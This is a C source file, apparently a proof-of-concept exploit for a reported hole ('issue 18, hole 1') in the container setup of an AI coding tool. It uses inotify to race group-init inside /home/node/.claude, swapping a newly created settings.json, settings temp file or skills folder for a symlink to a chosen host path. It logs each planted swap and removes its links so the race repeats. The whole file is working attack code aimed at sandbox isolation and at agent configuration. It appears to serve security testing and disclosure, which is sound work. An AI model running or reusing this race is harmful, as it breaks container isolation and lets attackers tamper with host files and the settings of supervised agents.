/* The agent of issue 18, hole 1: run inside a container in /home/node/.claude (the group's .claude-shared), it
   watches the folder with inotify and, the moment group-init creates something there, swaps it for a symlink to a
   host path: a temp file .settings.json.init-* or settings.json for argv[2] (a host file), the skills folder for
   argv[3] (a host folder). argv[1] says which: files, folder or all. Its own links are removed a few milliseconds
   later so that the next init creates (and the racer swaps) again. Every swap is logged to /workspace/planted.
   Runs until /workspace/stop exists. Static, so it runs in the libc-less image. */
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *logf;
static double skills_at, settings_at;

static double now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000.0 + t.tv_nsec / 1e6;
}

static void planted(const char *what)
{
    fprintf(logf, "%s\n", what);
    fflush(logf);
}

static void handle(const char *name, int files, int folder, const char *file, const char *dir)
{
    static unsigned moved;
    struct stat st;
    if (lstat(name, &st) != 0) return;
    if (files && S_ISREG(st.st_mode) && strncmp(name, ".settings.json.init-", 20) == 0) {
        if (unlink(name) == 0 && symlink(file, name) == 0) planted("temp");
    } else if (files && S_ISREG(st.st_mode) && strcmp(name, "settings.json") == 0) {
        if (unlink(name) == 0 && symlink(file, name) == 0) { planted("settings"); settings_at = now_ms(); }
    } else if (folder && S_ISDIR(st.st_mode) && strcmp(name, "skills") == 0) {
        char away[64];
        snprintf(away, sizeof away, "old-skills-%u", ++moved);
        if (rename("skills", away) == 0 && symlink(dir, "skills") == 0) { planted("skills"); skills_at = now_ms(); }
    }
}

static void expire(const char *name, double *at)
{
    struct stat st;
    if (*at != 0 && now_ms() - *at > 3 && lstat(name, &st) == 0 && S_ISLNK(st.st_mode)) {
        unlink(name);
        *at = 0;
    }
}

int main(int argc, char **argv)
{
    if (argc != 4 || chdir("/home/node/.claude") != 0) return 2;
    int files = strcmp(argv[1], "folder") != 0, folder = strcmp(argv[1], "files") != 0;
    logf = fopen("/workspace/planted", "a");
    int fd = inotify_init1(IN_NONBLOCK);
    if (!logf || fd < 0 || inotify_add_watch(fd, ".", IN_CREATE | IN_MOVED_TO) < 0) { perror("inotify"); return 1; }
    unlink("settings.json");
    rename("skills", "old-skills-0");
    FILE *ready = fopen("/workspace/ready", "w");
    if (!ready) return 1;
    fclose(ready);

    char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
    while (access("/workspace/stop", F_OK) != 0) {
        struct pollfd p = { fd, POLLIN, 0 };
        if (poll(&p, 1, (skills_at != 0 || settings_at != 0) ? 1 : 50) > 0) {
            ssize_t n = read(fd, buf, sizeof buf);
            for (char *at = buf; n > 0 && at < buf + n;) {
                struct inotify_event *e = (struct inotify_event *)at;
                if (e->len > 0) handle(e->name, files, folder, argv[2], argv[3]);
                at += sizeof *e + e->len;
            }
        }

        expire("skills", &skills_at);
        expire("settings.json", &settings_at);
    }

    return 0;
}
